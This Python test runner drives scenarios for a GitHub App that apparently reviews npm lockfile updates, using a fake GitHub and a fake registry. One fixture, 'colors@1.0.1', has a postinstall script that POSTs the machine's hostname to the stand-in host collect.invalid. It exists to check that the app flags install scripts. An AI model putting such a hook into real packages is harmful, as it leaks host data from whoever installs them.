#!/usr/bin/env python3
"""Runs scenarios of the GitHub App against a built binary: python3 run.py --binary PATH [SCENARIO…]

Each scenario is a file in scenarios/: its docstring is the rule that must hold, EXPECTED what must come out, and
run(w) returns what came out (or (got, ok), or a list of rows (name, expected, got, ok)). Each has a server, a GitHub and a
folder of its own. Prints a row per scenario: ok, name, rule, expected, got (tab-separated); exit 0 when all are right."""
import argparse, concurrent.futures as cf, html, importlib.util, json, os, re, shutil, signal, socket, subprocess, sys, tempfile, time, urllib.error, urllib.request
here = os.path.dirname(os.path.abspath(__file__))
sys.path.insert(0, here); sys.dont_write_bytecode = True
from fakegithub import EVENT_NEEDS, GitHub, now     # noqa: E402


class World:
    """A GitHub with a few packages, and the server under test."""

    def __init__(self, binary, lag=0, latency=0):
        self.binary, self.gh, self.dir = binary, GitHub().listen(), tempfile.mkdtemp(prefix='app-')
        self.gh.latency = latency
        if lag: self.gh.lag = dict(pull=lag, files=lag, comments=lag, new=lag)
        self.processes, self.server, self.numbers = [], None, 0
        gh = self.gh
        hook = dict(files={'setup.js': 'console.log("inert")\n'}, scripts={'postinstall': 'node setup.js'})
        # quiet@1.1.0 blocks: an update that begins to run a script during installation. So do two@1.1.0 and a@1.0.0.
        for name, old, new in (('quiet', '1.0.0', '1.1.0'), ('two', '1.0.0', '1.1.0'), ('a', '0.9.0', '1.0.0')): gh.package(name, old); gh.package(name, new, **hook)
        gh.package('plain'); gh.package('b', '2.0.0')
        # colors@1.0.1 behaves like malware, inertly: nothing runs it, and collect.invalid does not exist.
        gh.package('colors', '1.0.0'); gh.package('colors', '1.0.1', files={'setup.js': "require('https').request({ host: 'collect.invalid', path: '/?' + require('os').hostname(), method: 'POST' }).end()\n"}, scripts=hook['scripts'])

    # Processes.
    def env(self, **more):
        e = {k: v for k, v in os.environ.items() if not k.startswith(('GITHUB_', 'npm_config_'))}
        return dict(e, HOME=self.dir, XDG_CONFIG_HOME=self.dir, XDG_CACHE_HOME=self.dir, NO_COLOR='1', **more)

    def port(self):
        with socket.socket() as s: s.bind(('127.0.0.1', 0)); return s.getsockname()[1]

    def start(self, *args, app=True, ready=True, osv='none', **env):
        """Starts the server; app=False: without credentials, so that it shows its set-up page. After kill() it starts the same again."""
        if not self.server:
            key = self.dir + '/key.pem'
            subprocess.run(['openssl', 'genrsa', '-traditional', '-out', key, '2048'], check=True, capture_output=True)
            port = self.port()
            e = dict(DATABASE_URL=self.dir + '/lw.db', PUBLIC_URL='http://127.0.0.1:%d' % port)
            if app: e.update(APP_ID=str(self.gh.app_id), PRIVATE_KEY_PATH=key, WEBHOOK_SECRET='test-secret', GITHUB_API_URL=self.gh.api)
            self.server = dict(port=port, env=self.env(**{**e, **env}), args=[self.binary, 'serve', '--host', '127.0.0.1', '--port', str(port), '--osv', osv, '--cache', self.dir + '/cache', '--registry', self.gh.origin + '/npm/', '--allow-host', '127.0.0.1', '--workers', '1', *args])
        s = self.server
        with open(self.dir + '/log', 'ab') as out: s['process'] = subprocess.Popen(s['args'], env=s['env'], stdout=out, stderr=out, start_new_session=True)
        self.processes.append(s['process'])
        if ready:
            path = '/readyz' if app else '/healthz'
            for _ in range(600):
                if self.get(path)[0] == 200: return self
                if s['process'].poll() is not None: raise RuntimeError('the server ended: ' + self.logged()[-600:])
                time.sleep(0.05)
            raise RuntimeError('the server is not ready: ' + self.logged()[-600:])
        return self

    def alive(self): return self.server['process'].poll() is None
    def logged(self): return open(self.dir + '/log', errors='replace').read() if os.path.exists(self.dir + '/log') else ''

    def kill(self, sig=signal.SIGKILL):
        p = self.server['process']
        if p.poll() is None: p.send_signal(sig); p.wait(20)

    def close(self):
        for p in self.processes:
            if p.poll() is None:
                p.terminate()
                try: p.wait(5)
                except subprocess.TimeoutExpired: p.kill(); p.wait(20)
        self.gh.server.shutdown(); shutil.rmtree(self.dir, ignore_errors=True)

    def cli(self, *args, cwd=None, osv='none', timeout=120):
        r = subprocess.run([self.binary, *args, '--registry', self.gh.origin + '/npm/', '--allow-host', '127.0.0.1', '--osv', osv, '--cache', self.dir + '/cache'], cwd=cwd or self.dir, env=self.env(), capture_output=True, text=True, timeout=timeout)
        return r.returncode, r.stdout, r.stderr

    def doctor(self):
        self.gh.hook_url = self.server['env']['PUBLIC_URL'] + '/webhook'
        r = subprocess.run([self.binary, 'doctor', '--osv', 'none', '--registry', self.gh.origin + '/npm/', '--allow-host', '127.0.0.1'], env=self.server['env'], capture_output=True, text=True, timeout=90)
        return r.stdout + r.stderr

    def get(self, url):
        """(status, text) of a page; a path means the server under test."""
        if url.startswith('/'): url = 'http://127.0.0.1:%d%s' % (self.server['port'], url)
        try:
            with urllib.request.urlopen(url, timeout=15) as a: return a.status, a.read().decode(errors='replace')
        except urllib.error.HTTPError as e: return e.code, e.read().decode(errors='replace')
        except OSError: return 0, ''

    def manifest(self, **env):
        """What the set-up page would register: (manifest, the form's action)."""
        self.start(app=False, **env)
        token = self.wait(lambda: re.search(r'token=([\w-]+)', self.logged()), 20)
        text = self.get('/setup?token=' + token[1])[1]
        m = re.search(r'name="manifest"[^>]*value="([^"]*)"', text)
        return json.loads(html.unescape(m[1])), html.unescape(re.search(r'<form method="post"[^>]*action="([^"]*)"', text)[1])

    # Waiting.
    def wait(self, f, seconds=40):
        end = now() + seconds
        while now() < end:
            v = f()
            if v: return v
            time.sleep(0.05)
        return f()

    def idle(self, still=1.6, most=40):
        """Until the server has asked GitHub nothing for a while."""
        end = now() + most; time.sleep(0.3)
        while now() < end and now() - (self.gh.log[-1][0] if self.gh.log else 0) < still: time.sleep(0.05)

    # GitHub's side.
    def hook(self, event, payload, **more): return self.gh.deliver(self.server['port'], event, payload, **more)

    def files(self, deps, policy=None, at='', **more):
        lock, manifest = self.gh.lockfile(deps)
        f = {at + 'package-lock.json': lock, at + 'package.json': manifest, 'README.md': b'x'}
        if policy: f['.github/lockwarden.yml'] = policy.encode()
        return dict(f, **more)

    def repository(self, deps=None, policy=None, files=None, links=None, **more):
        """A repository whose main branch has these dependencies. maint may maintain, adm is admin, wri may write."""
        self.numbers += 1
        r = self.gh.repository('acme/r%d' % self.numbers, **more)
        r['collaborators'].update(maint='maintain', adm='admin', wri='write', alice='write')
        r['policy'] = policy
        r['branches']['main'] = self.gh.commit(r, [], files or self.files(deps or {'quiet': '1.0.0'}, policy), links)
        return r

    def head(self, r, deps, on=None, **more):
        return self.gh.commit(r, [on or r['branches'][r['default']]], self.files(deps, r['policy'], **more))

    def open(self, r, deps=None, head=None, base=None, event=True, **who):
        head = head or self.head(r, deps if deps is not None else {'quiet': '1.1.0'}, n=str(len(r['pulls'])).encode())
        p = self.gh.pull(r, base or r['default'], head, **who)
        if event: self.hook('pull_request', self.gh.pull_event(r, p, 'opened'))
        return p

    def push(self, r, p, deps=None, head=None, event=True, **more):
        head = head or self.head(r, deps, on=None, m=str(len(p['history'])).encode(), **more)
        self.gh.move(p, head)
        if event: self.hook('pull_request', self.gh.pull_event(r, p, 'synchronize'))
        return head

    def say(self, r, p, user, body, event=True, **more):
        c = self.gh.comment(r, p['number'], user, body, **more)
        if event: self.hook('issue_comment', self.gh.comment_event(r, p['number'], c))
        return c

    def close_pull(self, r, p, merged=False):
        p['state'], p['merged'] = 'closed', merged
        self.hook('pull_request', self.gh.pull_event(r, p, 'closed'))

    # What people see.
    def runs(self, r, head): return sorted((c for c in list(r['checks'].values()) if c['head_sha'] == (head['head'] if isinstance(head, dict) else head)), key=lambda c: c['id'])

    def check(self, r, head):
        """The newest run's conclusion, or its status where it has none."""
        runs = self.runs(r, head)
        return 'no check' if not runs else runs[-1]['status'] if runs[-1]['status'] != 'completed' else runs[-1]['conclusion']

    def open_runs(self, r, head): return sum(c['status'] != 'completed' for c in self.runs(r, head))

    def settled(self, r, head, seconds=60):
        self.wait(lambda: self.runs(r, head) and not self.open_runs(r, head), seconds)
        return self.check(r, head)

    def becomes(self, r, head, want, seconds=12):
        """Waits until the check is want, and returns what it is then."""
        self.wait(lambda: self.check(r, head) == want, seconds)
        return self.check(r, head)

    def second(self): time.sleep(1.2)      # GitHub's times are whole seconds

    def reviewed_again(self):
        """How often a review failed and was put back into the queue, by the server's log."""
        log = self.logged()
        if 'job=review' not in log: raise RuntimeError('the log does not tell of reviews any more: find another sign here')
        return sum('job=review' in l and ('msg=failed' in l or 'level=ERROR' in l) for l in log.splitlines())

    def replies(self, r, p): return [c['body'] for c in r['comments'][p['number']] if c['user'] == self.gh.slug + '[bot]']

    def summary(self, r, head):
        o = self.runs(r, head)[-1]['output']
        return (o.get('title') or '') + '\n' + (o.get('summary') or '') + '\n' + (o.get('text') or '')

    def page_of(self, r, head, query=''):
        """The review page of the newest run, as text without markup, and as HTML."""
        u = self.runs(r, head)[-1]['details_url']
        text = self.get(u + (('&' if '?' in u else '?') + query if query else ''))[1]
        return html.unescape(re.sub(r'\s+', ' ', re.sub(r'<[^>]+>', ' ', re.sub(r'(?s)<(script|style).*?</\1>', ' ', text)))), text

    def git(self, folder, *args): return subprocess.run(['git', '-c', 'user.name=a', '-c', 'user.email=a@acme.example', *args], cwd=folder, env=self.env(), check=True, capture_output=True, text=True).stdout

    def comments(self, path):
        """Reads a table of comment bodies with the server: rows (name, expected, got, ok)."""
        table = []
        for line in open(path, encoding='utf-8').read().splitlines()[1:]:
            name, body, reading, why = line.split('\t'); body = json.loads(body)
            table.append((name, body if isinstance(body, str) else ''.join(text * times for text, times in body), reading))
        self.start(); r = self.repository({'a': '0.9.0'})
        pulls = [self.open(r, {'a': '1.0.0'}) for _ in table]
        before = {self.settled(r, p, 120) for p in pulls}
        if before != {'failure'}: return [(name, reading, 'before the comment the checks are ' + ' '.join(before), False) for name, _, reading in table]
        self.second()
        said = [self.say(r, p, 'maint', body) for p, (_, body, _) in zip(pulls, table)]
        self.idle(2.5, 120)
        out = []
        for p, c, (name, body, reading) in zip(pulls, said, table):
            check = self.check(r, p)
            got = 'accept' if check == 'success' else 'the check is ' + check if check != 'failure' else 'word' if self.replies(r, p) or c['reactions'] else 'nothing'
            out.append((name, reading, got, got in reading.split(' or ')))
        return out


def one(binary, path, lag, latency):
    spec = importlib.util.spec_from_file_location('scenario', path); m = importlib.util.module_from_spec(spec); spec.loader.exec_module(m)
    name, rule, w = os.path.basename(path)[:-3], ' '.join(m.__doc__.split()), World(binary, lag, latency)
    expected = getattr(m, 'EXPECTED', '')
    try: got = m.run(w)
    except Exception as e: got = ('the scenario ended: %s: %s' % (type(e).__name__, e), False)      # never right
    finally:
        if os.environ.get('KEEP_LOG'): print(w.logged(), file=sys.stderr)
        w.close()
    if isinstance(got, list): return [(name + ': ' + n, rule, e, g, bool(k)) for n, e, g, k in got]
    if isinstance(got, tuple): return [(name, rule, expected, str(got[0]), bool(got[1]))]
    return [(name, rule, expected, str(got), got == expected)]


def main():
    a = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    a.add_argument('--binary', required=True); a.add_argument('--scenarios', default=here + '/scenarios'); a.add_argument('--json', action='store_true'); a.add_argument('--wrong', action='store_true', help='print only what is not right, and the sum')
    a.add_argument('-j', type=int, default=2); a.add_argument('--limit', type=int, default=150, help='seconds for one scenario'); a.add_argument('--within', type=int, default=3600, help='seconds for all; what is not begun by then counts as not run'); a.add_argument('--lag', type=float, default=0, help='seconds that GitHub is behind its webhooks, where a scenario does not say'); a.add_argument('--latency', type=float, default=0, help='seconds that each request takes, where a scenario does not say'); a.add_argument('--one', help=argparse.SUPPRESS); a.add_argument('names', nargs='*')
    o = a.parse_args(); o.binary = os.path.abspath(o.binary)
    if o.one:
        print(json.dumps(one(o.binary, o.one, o.lag, o.latency))); sys.stdout.flush(); os._exit(0)
    all_ = sorted(f[:-3] for f in os.listdir(o.scenarios) if f.endswith('.py'))
    names = o.names or all_
    for n in names:
        if n not in all_: sys.exit('no such scenario: ' + n)
    end = now() + o.within
    def run(n):
        if now() > end: return [[n, '', '', 'not run: no time was left', False]], 0
        path = os.path.join(o.scenarios, n + '.py'); t = now()
        p = subprocess.Popen([sys.executable, os.path.abspath(__file__), '--binary', o.binary, '--lag', str(o.lag), '--latency', str(o.latency), '--one', path], stdout=subprocess.PIPE, stderr=None if os.environ.get('KEEP_LOG') else subprocess.DEVNULL, text=True, start_new_session=True)
        try: return json.loads(p.communicate(timeout=min(o.limit, max(5, end - now())))[0]), now() - t
        except (subprocess.TimeoutExpired, ValueError):
            for g in children(p.pid): os.kill(g, signal.SIGKILL)
            p.kill(); p.wait()
            return [[n, '', '', 'the scenario did not end', False]], now() - t
    rows = []
    with cf.ThreadPoolExecutor(o.j) as ex:
        for part, took in ex.map(run, names):
            rows += part
            if not o.json:
                for name, rule, expected, got, ok in part:
                    if not (ok and o.wrong): print('\t'.join(('ok' if ok else 'WRONG', name, rule, 'expected ' + expected, 'got ' + got.replace('\n', ' ')[:300], '%.0f s' % took)), flush=True)
    right = sum(r[4] for r in rows)
    if o.json: print(json.dumps(rows))
    else: print('%d of %d right' % (right, len(rows)))
    sys.exit(right != len(rows) or not rows)


def children(pid):
    out = []
    for d in os.listdir('/proc'):
        try:
            if d.isdigit() and int(open('/proc/%s/stat' % d).read().rsplit(')', 1)[1].split()[1]) == pid: out += [*children(int(d)), int(d)]
        except OSError: pass
    return out


if __name__ == '__main__': main()
